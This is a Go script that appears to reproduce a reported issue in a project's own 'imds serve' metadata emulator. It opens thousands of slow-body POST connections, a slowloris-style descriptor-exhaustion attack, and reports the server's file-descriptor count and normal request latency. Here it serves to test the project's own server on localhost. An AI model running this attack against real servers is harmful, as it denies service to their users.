// Command trickle is issue 14's descriptor attack on `imds serve`: it opens -n connections
// that send headers announcing a 100,000-byte body and then trickle it a byte a second, and
// prints, every few seconds, how many descriptors the server holds (-pid, from /proc) and how
// long a normal request takes beside them.
//
//	go run ./cmd/imds serve --addr 127.0.0.1:8169 & pid=$!
//	go run ./scripts/trickle -addr 127.0.0.1:8169 -pid $pid -n 3000 -for 45s
package main

import (
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"sync"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8169", "the server's `address`")
	pid := flag.Int("pid", 0, "the server's process `ID`, to count its descriptors")
	n := flag.Int("n", 3000, "connections to open")
	dur := flag.Duration("for", 45*time.Second, "how long to go on")
	flag.Parse()

	var mu sync.Mutex
	open, refused := 0, 0
	for range *n {
		go func() {
			c, err := net.Dial("tcp", *addr)
			if err != nil {
				mu.Lock()
				refused++
				mu.Unlock()
				return
			}
			defer c.Close()
			mu.Lock()
			open++
			mu.Unlock()
			defer func() { mu.Lock(); open--; mu.Unlock() }()
			fmt.Fprintf(c, "POST /identity/v1/token?version=2025-08-26 HTTP/1.1\r\nHost: %s\r\nMetadata-Flavor: ibm\r\nContent-Length: 100000\r\n\r\n{", *addr)
			for {
				time.Sleep(time.Second)
				if _, err := io.WriteString(c, " "); err != nil {
					return
				}
			}
		}()
	}
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	start := time.Now()
	for time.Since(start) < *dur {
		time.Sleep(3 * time.Second)
		t0 := time.Now()
		status := "error"
		resp, err := client.Get("http://" + *addr + "/_emulator/ca.pem")
		if err == nil {
			status = resp.Status
			resp.Body.Close()
		} else {
			status = err.Error()
		}
		fds := "?"
		if *pid > 0 {
			if ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", *pid)); err == nil {
				fds = fmt.Sprint(len(ents))
			}
		}
		mu.Lock()
		fmt.Printf("t=%2.0fs attacker open=%d dial-failed=%d server fds=%s; GET took %v: %s\n", time.Since(start).Seconds(), open, refused, fds, time.Since(t0).Round(time.Millisecond), status)
		mu.Unlock()
	}
}
